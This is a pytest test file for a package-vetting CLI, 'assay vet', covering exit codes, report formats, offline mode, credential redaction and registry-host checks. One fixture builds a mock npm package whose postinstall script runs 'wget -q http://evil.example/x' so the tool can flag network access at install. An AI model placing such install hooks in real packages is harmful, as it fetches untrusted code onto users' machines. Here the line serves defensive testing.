"""``assay vet PURL`` through the real CLI entry: exit codes, formats, --output, --offline."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from assay.cli import context
from assay.cli.main import run
from assay.core.db import Database
from assay.vetting.report import VetReport
from tests.matching.advisories import add_advisory, affected
from tests.vetting.packages import CLEAN_INIT, npm_tarball, publish_npm, publish_pypi, zip_bytes
from tests.vulndb.feed_server import FeedServer


@pytest.fixture(autouse=True)
def _fresh_settings() -> Iterator[None]:
    context.settings.cache_clear()
    context.database.cache_clear()
    yield
    context.settings.cache_clear()
    context.database.cache_clear()


@pytest.fixture
def server(database: Database, monkeypatch: pytest.MonkeyPatch) -> Iterator[FeedServer]:
    """Registries on 127.0.0.1 and the CLI pointed at them and at ``database``."""
    add_advisory(database, "GHSA-unrelated", [affected("PyPI", "other", "0", "1.0")])
    monkeypatch.setenv("ASSAY_HOME", str(database.settings.home))
    monkeypatch.setenv("ASSAY_DATABASE_URL", database.settings.database_url)
    with FeedServer.running() as running:
        monkeypatch.setenv("ASSAY_PYPI_URL", running.url("/"))
        monkeypatch.setenv("ASSAY_NPM_URL", running.url(""))
        publish_pypi(
            running,
            "tidy",
            "1.0.0",
            {"tidy-1.0.0-py3-none-any.whl": zip_bytes({"tidy/__init__.py": CLEAN_INIT})},
        )
        scripts = {"postinstall": "wget -q http://evil.example/x"}
        publish_npm(running, "helpful", "1.0.0", npm_tarball({}, scripts), scripts=scripts)
        yield running


def _run(argv: list[str]) -> int:
    with pytest.raises(SystemExit) as exited:
        run(argv)
    return int(exited.value.code or 0)


def test_pass_exits_0_with_a_table(server: FeedServer, capsys: pytest.CaptureFixture[str]) -> None:
    assert _run(["vet", "pkg:pypi/tidy@1.0.0"]) == 0
    out = capsys.readouterr().out
    assert "pkg:pypi/tidy@1.0.0" in out and "verdict: pass" in out


def test_fail_exits_1(server: FeedServer, capsys: pytest.CaptureFixture[str]) -> None:
    assert _run(["vet", "pkg:npm/helpful@1.0.0", "--format", "json"]) == 1
    report = VetReport.from_dict(json.loads(capsys.readouterr().out))
    assert report.verdict.value == "fail"
    assert report.check("network-at-install").status.value == "fail"  # type: ignore[union-attr]


def test_review_exits_0_and_writes_markdown(server: FeedServer, tmp_path: Path) -> None:
    target = tmp_path / "report.md"
    assert (
        _run(["vet", "pkg:pypi/tidy@1.0.0", "--offline", "-f", "markdown", "-o", str(target)]) == 0
    )
    text = target.read_text(encoding="utf-8")
    assert "**Verdict: review**" in text and "could not run: offline" in text
    assert server.hits == []


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["vet", "requests"], "not a package URL"),
        (["vet", "pkg:pypi/requests"], "has no version"),
    ],
)
def test_bad_purl_exits_2(
    argv: list[str], message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _run(argv) == 2
    err = capsys.readouterr().err
    assert err.startswith("assay: error: ") and message in err and "Traceback" not in err


def test_unknown_format_exits_2(capsys: pytest.CaptureFixture[str]) -> None:
    assert _run(["vet", "pkg:pypi/x@1", "--format", "xml"]) == 2
    assert "invalid choice" in capsys.readouterr().err


def test_unwritable_output_exits_2(server: FeedServer, tmp_path: Path) -> None:
    assert _run(["vet", "pkg:pypi/tidy@1.0.0", "--offline", "-o", str(tmp_path / "no" / "x")]) == 2


@pytest.mark.parametrize("form", ["table", "json", "markdown"])
def test_registry_credentials_are_not_printed(
    server: FeedServer,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    form: str,
) -> None:
    monkeypatch.setenv("ASSAY_NPM_URL", server.url("").replace("http://", "http://svc:S3cret@"))
    assert _run(["vet", "pkg:npm/helpful@1.0.0", "--format", form]) == 1  # still fetched
    captured = capsys.readouterr()
    assert "S3cret" not in captured.out + captured.err
    if form != "table":  # the table shows no registry URL
        assert f"***@127.0.0.1:{server.port}" in captured.out


def test_an_artefact_on_another_host_is_not_fetched(
    server: FeedServer, capsys: pytest.CaptureFixture[str]
) -> None:
    with FeedServer.running() as internal:
        internal.put("/x.tgz", b"internal")
        body = server.resources["/helpful"].body.decode()
        server.put(
            "/helpful",
            body.replace(server.url("/files/helpful-1.0.0.tgz"), internal.url("/x.tgz")).encode(),
        )
        assert _run(["vet", "pkg:npm/helpful@1.0.0", "--format", "json"]) == 1  # the scripts
        assert internal.hits == []
    report = VetReport.from_dict(json.loads(capsys.readouterr().out))
    integrity = report.check("integrity")
    assert integrity is not None and integrity.status.value == "not_run"
    assert f"127.0.0.1:{internal.port} is not an allowed registry host" in integrity.summary
